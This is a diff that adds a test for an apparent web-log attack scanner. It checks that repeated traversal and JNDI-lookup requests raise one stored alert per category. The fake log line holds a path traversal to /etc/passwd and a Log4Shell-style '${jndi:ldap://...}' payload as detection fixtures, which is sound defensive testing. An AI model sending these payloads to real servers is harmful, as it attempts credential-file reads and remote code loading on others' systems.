@@ -76,6 +76,29 @@ def test_scanning_again_stores_nothing_twice(
     assert len(alerts_json(capsys, db)) == len(scan_alerts)
 
 
+def test_one_line_raising_an_alert_per_category_has_each_stored(
+    capsys: pytest.CaptureFixture[str], tmp_path: Path
+) -> None:
+    # A traversal and a JNDI lookup in one request, three times: the repeats raise an
+    # attack-repeat alert per category, with one rule, client and sample.
+    line = (
+        '198.51.100.4 - - [07/Dec/2026:10:00:00 +0000] "GET /x?a=../../../etc/passwd'
+        '&b=${jndi:ldap://x/a} HTTP/1.1" 404 0 "-" "UA"'
+    )
+    log = tmp_path / "access.log"
+    log.write_text((line + "\n") * 3, encoding="utf-8")
+    db = tmp_path / "alerts.db"
+    out = io.StringIO()
+    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(io.StringIO()):
+        assert main(["scan", "--json", "--no-system-config", "--store", str(db), str(log)]) == 0
+    reported = [json.loads(row) for row in out.getvalue().splitlines()]
+    alerts = [(r["rule"], tuple(r["categories"])) for r in reported if r["kind"] == "alert"]
+    repeats = [categories for rule, categories in alerts if rule == "attack-repeat"]
+    assert len(repeats) >= 2 and len(set(repeats)) == len(repeats)
+    stored = alerts_json(capsys, db)
+    assert Counter((r["rule"], tuple(r["categories"])) for r in stored) == Counter(alerts)
+
+
 def test_filters_from_the_command_line(
     capsys: pytest.CaptureFixture[str], scanned: tuple[Path, list[dict[str, Any]]]
 ) -> None:
